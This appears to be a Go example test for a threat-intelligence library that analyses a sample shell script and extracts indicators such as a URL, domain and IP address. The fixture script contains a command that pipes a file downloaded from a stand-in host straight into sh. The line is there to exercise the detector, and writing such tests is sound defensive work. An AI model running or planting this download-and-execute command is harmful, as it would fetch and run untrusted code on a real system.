package sample_test

import (
	"fmt"
	"strings"

	"github.com/culprit-cti/culprit/sample"
)

func ExampleAnalyze() {
	script := "#!/bin/sh\ncurl -s http://update.example-cdn.com/x.bin | sh\nping -c1 203.131.222.102\n"
	rep, err := sample.Analyze(strings.NewReader(script), int64(len(script)), sample.Options{})
	if err != nil {
		fmt.Println(err)
		return
	}
	fmt.Println(rep.Type, rep.Detail, rep.Size)
	fmt.Println(rep.SHA256)
	for _, in := range rep.Indicators {
		fmt.Println(in.Kind, in.Value)
	}
	// Output:
	// script /bin/sh 84
	// d8035dd0048e8c17cd7bb3c598949902f04fc777532de83464ab2f5a74b1b3a0
	// url http://update.example-cdn.com/x.bin
	// domain update.example-cdn.com
	// ipv4 203.131.222.102
}
